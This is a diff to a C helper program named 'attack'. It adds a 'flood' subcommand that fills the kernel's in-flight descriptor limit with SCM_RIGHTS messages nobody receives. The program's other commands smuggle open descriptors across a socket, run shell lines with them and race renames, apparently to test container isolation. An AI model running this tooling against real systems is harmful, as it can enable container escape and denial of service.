@@ -12,6 +12,7 @@
  *                              sends an open file or directory to whoever listens there
  *   attack take SOCKET         listens there (outside), and runs each line of its standard input with the shell,
  *                              with what it was sent as descriptor 9
+ *   attack flood FILE          sends thousands of descriptors which nobody receives, makes the file, and waits until that is removed
  *   attack exchange A B        exchanges two names until it is killed (renameat2)
  */
 #define _GNU_SOURCE /* musl hides process_vm_readv */
@@ -36,6 +37,8 @@
 #define DESCRIPTORS_MAX 4096
 #define DOCKER_DEFAULT  0xa80425fbULL
 #define TAKEN_FD        9
+#define FLOOD_MESSAGES  10
+#define FLOOD_MOST      250 /* of one message; the kernel takes 253 */
 #define RENAME_BOTH     2 /* RENAME_EXCHANGE of <linux/fs.h> */
 
 static void say(const char *what, const char *where)
@@ -270,6 +273,34 @@ static int take(const char *path)
     return 0;
 }
 
+static int flood(const char *file)
+{
+    union {
+        struct cmsghdr header;
+        char space[CMSG_SPACE(FLOOD_MOST * sizeof(int))];
+    } ancillary = {.header = {.cmsg_level = SOL_SOCKET,
+                              .cmsg_type = SCM_RIGHTS,
+                              .cmsg_len = CMSG_LEN(FLOOD_MOST * sizeof(int))}};
+    struct iovec byte = {"", 1};
+    struct msghdr message = {.msg_iov = &byte,
+                             .msg_iovlen = 1,
+                             .msg_control = &ancillary,
+                             .msg_controllen = sizeof(ancillary)};
+    int ends[2], sent[FLOOD_MOST] = {0};
+
+    memcpy(CMSG_DATA(&ancillary.header), sent, sizeof(sent));
+    if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) < 0)
+        return 1;
+    for (int i = 0; i < FLOOD_MESSAGES; i++) {
+        if (sendmsg(ends[0], &message, 0) != 1)
+            return 1;
+    }
+    close(open(file, O_WRONLY | O_CREAT, 0644));
+    while (access(file, F_OK) == 0)
+        usleep(20000);
+    return 0;
+}
+
 int main(int argc, char **argv)
 {
     static const struct {
@@ -283,6 +314,8 @@ int main(int argc, char **argv)
 
     if (argc == 4 && strcmp(argv[1], "hand-over") == 0)
         return hand_over(argv[2], argv[3]);
+    if (argc == 3 && strcmp(argv[1], "flood") == 0)
+        return flood(argv[2]);
     if (argc == 3 && strcmp(argv[1], "take") == 0)
         return take(argv[2]);
     if (argc == 4 && strcmp(argv[1], "exchange") == 0)
